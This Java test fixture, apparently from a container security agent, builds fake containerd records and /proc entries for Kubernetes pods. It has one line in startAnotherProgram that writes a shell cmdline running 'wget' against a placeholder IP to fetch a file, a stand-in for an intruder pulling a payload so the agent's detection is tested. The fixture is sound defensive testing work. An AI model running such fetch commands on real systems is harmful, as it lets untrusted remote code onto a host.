// Copyright The Plumbline Authors
// SPDX-License-Identifier: Apache-2.0
package io.plumbline.agent.training;

import com.google.protobuf.Any;
import com.google.protobuf.ByteString;
import io.plumbline.agent.container.containerd.FakeContainerd;
import io.plumbline.agent.sensor.procfs.FakeProc;
import io.plumbline.containerd.v1.Container;
import io.plumbline.containerd.v1.Process;
import io.plumbline.containerd.v1.Status;
import io.plumbline.cri.v1.ContainerMetadata;
import io.plumbline.cri.v1.ContainerState;
import io.plumbline.cri.v1.ContainerStatus;
import io.plumbline.cri.v1.ImageSpec;
import io.plumbline.cri.v1.PodSandboxMetadata;
import io.plumbline.cri.v1.PodSandboxNetworkStatus;
import io.plumbline.cri.v1.PodSandboxStatus;
import java.util.Map;

/** Pods with one container and one process each, as containerd and /proc show them. */
final class TrainingNode {
    private static final int FIRST_PID = 4_000_000;

    private final FakeContainerd containerd;
    private final FakeProc proc;

    TrainingNode(FakeContainerd containerd, FakeProc proc) {
        this.containerd = containerd;
        this.proc = proc;
    }

    /** A pod that runs already. */
    void addPod(int number) {
        Map<String, String> labels = Map.of(
                "io.kubernetes.pod.uid", "uid-" + number,
                "io.kubernetes.pod.name", "web-7c5f9d8b6d-x2x7" + number,
                "io.kubernetes.pod.namespace", "shop");
        String sandbox = id('a', number);
        String container = id('c', number);
        int pid = FIRST_PID + 10 * number;
        addSandbox(sandbox, number, pid, labels);
        addContainer(container, sandbox, pid + 1, labels);
        process(pid, 1, number, sandbox, "pause");
        process(pid + 1, pid, number, container, "httpd");
    }

    /** One more process in the first pod, of a program that was not seen before. */
    void startAnotherProgram() {
        process(FIRST_PID + 2, FIRST_PID + 1, 0, id('c', 0), "sh");
        proc.file(FIRST_PID + 2, "cmdline", "sh\0-c\0wget http://203.0.113.7/x\0");
    }

    private void process(int pid, int parent, int pod, String id, String program) {
        proc.process(pid, parent, 1_000L + pid, program)
                .file(pid, "cgroup", "0::/kubepods/burstable/poduid-" + pod + "/" + id + "\n")
                .file(pid, "status", "Name:\t" + program + "\nUid:\t0\t0\t0\t0\nGid:\t0\t0\t0\t0\n")
                .file(pid, "mountinfo", "25 1 0:22 / / rw - overlay overlay rw,lowerdir=/l,upperdir=/u,workdir=/w\n");
    }

    private void addSandbox(String id, int number, int pid, Map<String, String> labels) {
        containerd.containers.put(
                id,
                Container.newBuilder()
                        .setId(id)
                        .putAllLabels(labels)
                        .putLabels("io.cri-containerd.kind", "sandbox")
                        .build());
        containerd.tasks.put(id, task(id, pid));
        containerd.sandboxStatus.put(
                id,
                PodSandboxStatus.newBuilder()
                        .setId(id)
                        .setMetadata(PodSandboxMetadata.newBuilder()
                                .setUid("uid-" + number)
                                .setName(labels.get("io.kubernetes.pod.name"))
                                .setNamespace("shop"))
                        .setCreatedAt(500)
                        .setNetwork(PodSandboxNetworkStatus.newBuilder().setIp("10.88.0." + (2 + number)))
                        .putAllLabels(labels)
                        .build());
    }

    private void addContainer(String id, String sandbox, int pid, Map<String, String> labels) {
        String spec = """
                {"ociVersion": "1.1.0", "process": {"args": ["/bin/httpd", "-f"], "cwd": "/"},
                 "annotations": {"io.kubernetes.cri.sandbox-id": "%s", "io.kubernetes.cri.image-name": "shop/web:1"}}
                """.formatted(sandbox);
        containerd.containers.put(
                id,
                Container.newBuilder()
                        .setId(id)
                        .putAllLabels(labels)
                        .putLabels("io.cri-containerd.kind", "container")
                        .putLabels("io.kubernetes.container.name", "web")
                        .setSnapshotter("overlayfs")
                        .setSnapshotKey(id)
                        .setSpec(Any.newBuilder()
                                .setTypeUrl("types.containerd.io/opencontainers/runtime-spec/1/Spec")
                                .setValue(ByteString.copyFromUtf8(spec)))
                        .build());
        containerd.tasks.put(id, task(id, pid));
        containerd.containerStatus.put(
                id,
                ContainerStatus.newBuilder()
                        .setId(id)
                        .setMetadata(ContainerMetadata.newBuilder().setName("web"))
                        .setState(ContainerState.CONTAINER_RUNNING)
                        .setStartedAt(800)
                        .setImage(ImageSpec.newBuilder().setImage("sha256:config"))
                        .setImageRef("registry.example/shop/web@sha256:abc")
                        .build());
    }

    private static Process task(String id, int pid) {
        return Process.newBuilder()
                .setId(id)
                .setPid(pid)
                .setStatus(Status.RUNNING)
                .build();
    }

    private static String id(char kind, int number) {
        return Character.toString(kind).repeat(63) + number;
    }
}
